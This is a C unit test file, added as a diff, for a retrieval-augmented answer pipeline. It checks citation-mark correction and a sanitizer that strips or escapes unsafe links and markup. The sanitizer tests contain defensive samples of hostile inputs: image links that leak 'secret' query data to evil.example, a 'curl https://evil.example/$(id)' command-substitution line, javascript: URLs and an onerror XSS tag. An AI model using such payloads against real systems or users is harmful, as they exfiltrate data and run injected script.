@@ -1,0 +1,290 @@
+/* links: sidecar/rag/cite.c sidecar/rag/safe.c sidecar/rag/units.c
+   sidecar/extract/blocks.c sidecar/extract/text.c sidecar/base/buf.c */
+
+#define _GNU_SOURCE     /* memmem() */
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "rag/cite.h"
+#include "rag/safe.h"
+
+
+static const tf_llm_passage_t  passages[] = {
+    { 1, "doc-1", "a.md", "Timeouts", "proxy_read_timeout",
+      "Defines a timeout for reading a response from the proxied server. The "
+      "default is 60s. The timeout is set only between two successive read "
+      "operations.", 0, 3.0 },
+    { 2, "doc-2", "b.md", "Buffers", "proxy_buffers",
+      "Sets the number and size of the buffers used for reading a response, "
+      "for a single connection. By default eight buffers of one page.", 0,
+      2.0 },
+};
+
+
+/* The body that comes out of an answer; also where citation n points. */
+
+static char *
+cited(const char *answer, tf_llm_reply_t *reply, unsigned *moved,
+    unsigned *dropped)
+{
+    tf_llm_request_t  request;
+
+    memset(&request, 0, sizeof(request));
+    request.passages = passages;
+    request.npassages = 2;
+    memset(reply, 0, sizeof(tf_llm_reply_t));
+    tf_buf_puts(&reply->body, answer);
+    *moved = 0;
+    *dropped = 0;
+
+    assert_int_equal(tf_rag_cite(&request, reply, moved, dropped), 0);
+
+    return reply->body.data;
+}
+
+
+static void
+becomes(const char *answer, const char *want, unsigned moved,
+    unsigned dropped)
+{
+    unsigned        m, d;
+    tf_llm_reply_t  reply;
+
+    assert_string_equal(cited(answer, &reply, &m, &d), want);
+    assert_int_equal(m, moved);
+    assert_int_equal(d, dropped);
+    tf_buf_free(&reply.body);
+}
+
+
+static void
+a_mark_that_its_passage_supports_stays(void **state)
+{
+    (void) state;
+
+    becomes("The default timeout for reading a response is 60s [1].",
+            "The default timeout for reading a response is 60s [1].", 0, 0);
+    becomes("The default is 60s. [1]", "The default is 60s. [1]", 0, 0);
+    becomes("The default is 60s[1]", "The default is 60s[1]", 0, 0);
+}
+
+
+static void
+a_mark_on_the_wrong_passage_moves_to_the_right_one(void **state)
+{
+    (void) state;
+
+    becomes("The default timeout is 60s [2].",
+            "The default timeout is 60s [1].", 1, 0);
+    becomes("The default timeout is 60s [17].",
+            "The default timeout is 60s [1].", 1, 0);
+}
+
+
+static void
+a_mark_that_nothing_supports_goes(void **state)
+{
+    (void) state;
+
+    becomes("Bananas ripen faster beside apples [1].",
+            "Bananas ripen faster beside apples .", 0, 1);
+}
+
+
+static void
+a_number_that_is_not_in_the_passage_takes_the_mark_away(void **state)
+{
+    (void) state;
+
+    becomes("The default timeout for reading a response is 90s [1].",
+            "The default timeout for reading a response is 90s .", 0, 1);
+    becomes("The default timeout for reading a response is 6 seconds [1].",
+            "The default timeout for reading a response is 6 seconds .", 0,
+            1);
+}
+
+
+static void
+numbers_follow_the_order_of_the_answer(void **state)
+{
+    (void) state;
+
+    becomes("There are eight buffers by default [2]. The default timeout is "
+            "60s [1].",
+            "There are eight buffers by default [1]. The default timeout is "
+            "60s [2].", 0, 0);
+}
+
+
+static void
+a_row_of_marks_is_about_one_statement(void **state)
+{
+    (void) state;
+
+    becomes("It is for reading a response [1][2].",
+            "It is for reading a response [1][2].", 0, 0);
+    becomes("It is for reading a response [1, 2].",
+            "It is for reading a response [1][2].", 0, 0);
+    becomes("The default timeout is 60s [1] [1].",
+            "The default timeout is 60s [1] .", 0, 0);
+}
+
+
+static void
+code_links_and_years_are_no_marks(void **state)
+{
+    (void) state;
+
+    becomes("Use `a[1]` there.", "Use `a[1]` there.", 0, 0);
+    becomes("```\na[1] = b[2];\n```\n", "```\na[1] = b[2];\n```\n", 0, 0);
+    becomes("See [1](x).", "See [1](x).", 0, 0);
+    becomes("In [2024] it was.", "In [2024] it was.", 0, 0);
+    becomes("[x] done [ ] open []", "[x] done [ ] open []", 0, 0);
+    becomes("```\nopen fence a[1]", "```\nopen fence a[1]", 0, 0);
+    becomes("[1", "[1", 0, 0);
+}
+
+
+static void
+a_citation_points_at_the_unit_that_says_it(void **state)
+{
+    unsigned              m, d;
+    const char           *body;
+    tf_llm_reply_t        reply;
+    const tf_llm_quote_t *quote;
+
+    (void) state;
+
+    (void) cited("The default is 60s [1].", &reply, &m, &d);
+    assert_int_equal(reply.ncitations, 1);
+    quote = &reply.citations[0];
+    body = passages[0].body;
+    assert_int_equal(quote->passage, 0);
+    assert_int_equal(quote->end - quote->start, strlen("The default is 60s."));
+    assert_memory_equal(body + quote->start, "The default is 60s.",
+                        quote->end - quote->start);
+    tf_buf_free(&reply.body);
+}
+
+
+static void
+support_is_counted_by_words_that_say_something(void **state)
+{
+    const char  *text = passages[0].body;
+
+    (void) state;
+
+    assert_true(tf_cite_support("reading responses", 17, text, strlen(text))
+                > 0.9);
+    assert_true(tf_cite_support("purple elephants", 16, text, strlen(text))
+                < 0.1);
+    assert_true(tf_cite_support("it is", 5, text, strlen(text)) > 0.9);
+    assert_true(tf_cite_support("60", 2, text, strlen(text)) < 0.1);
+}
+
+
+/* safe.h */
+
+static int
+known(void *arg, const char *url, size_t len)
+{
+    const char  *all = arg;
+
+    return memmem(all, strlen(all), url, len) != NULL;
+}
+
+
+static void
+safe(const char *in, const char *want)
+{
+    tf_buf_t   from = TF_BUF_INIT, to = TF_BUF_INIT;
+    unsigned   removed;
+
+    removed = 0;
+    tf_buf_puts(&from, in);
+    assert_int_equal(tf_rag_safe(&from, &to, known,
+                                 (char *) "see https://nginx.org/en/docs/ and "
+                                 "http://example.org/a_(b)", &removed), 0);
+    assert_string_equal(to.data, want);
+    assert_int_equal(removed != 0, strcmp(in, want) != 0);
+    tf_buf_free(&from);
+    tf_buf_free(&to);
+}
+
+
+static void
+an_image_becomes_its_text(void **state)
+{
+    (void) state;
+
+    safe("a ![logo](https://evil.example/x?q=secret) b", "a logo b");
+    safe("![](//evil.example/x)", "");
+    safe("![a](https://nginx.org/en/docs/)", "a");
+    safe("![x][1]\n\n[1]: https://evil.example/?q=1",
+         "x[1]\n\n[1]: [link removed]");
+    safe("wow! [1]", "wow! [1]");
+}
+
+
+static void
+a_link_stays_only_if_a_document_has_it(void **state)
+{
+    (void) state;
+
+    safe("See https://nginx.org/en/docs/.", "See https://nginx.org/en/docs/.");
+    safe("[docs](https://nginx.org/en/docs/)",
+         "[docs](https://nginx.org/en/docs/)");
+    safe("(http://example.org/a_(b))", "(http://example.org/a_(b))");
+    safe("See https://nginx.org/en/docs/?q=secret",
+         "See [link removed]");
+    safe("[here](HTTPS://evil.example/?d=1 \"t\")",
+         "[here]([link removed] \"t\")");
+    safe("[here](//evil.example/x)", "[here]([link removed])");
+    safe("`curl https://evil.example/$(id)`", "`curl [link removed]`");
+}
+
+
+static void
+what_a_viewer_would_run_goes(void **state)
+{
+    (void) state;
+
+    safe("[x](javascript:alert(1))", "[x]([link removed])");
+    safe("[x](data:text/html,hello)", "[x]([link removed])");
+    safe("the data: they are there", "the data: they are there");
+    safe("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>");
+    safe("</script>", "&lt;/script>");
+    safe("<SCRIPT>", "&lt;SCRIPT>");
+    safe("if (a < b) <location> <article>", "if (a < b) <location> <article>");
+    safe("a <", "a <");
+}
+
+
+int
+main(void)
+{
+    const struct CMUnitTest  tests[] = {
+        cmocka_unit_test(a_mark_that_its_passage_supports_stays),
+        cmocka_unit_test(a_mark_on_the_wrong_passage_moves_to_the_right_one),
+        cmocka_unit_test(a_mark_that_nothing_supports_goes),
+        cmocka_unit_test(
+            a_number_that_is_not_in_the_passage_takes_the_mark_away),
+        cmocka_unit_test(numbers_follow_the_order_of_the_answer),
+        cmocka_unit_test(a_row_of_marks_is_about_one_statement),
+        cmocka_unit_test(code_links_and_years_are_no_marks),
+        cmocka_unit_test(a_citation_points_at_the_unit_that_says_it),
+        cmocka_unit_test(support_is_counted_by_words_that_say_something),
+        cmocka_unit_test(an_image_becomes_its_text),
+        cmocka_unit_test(a_link_stays_only_if_a_document_has_it),
+        cmocka_unit_test(what_a_viewer_would_run_goes),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
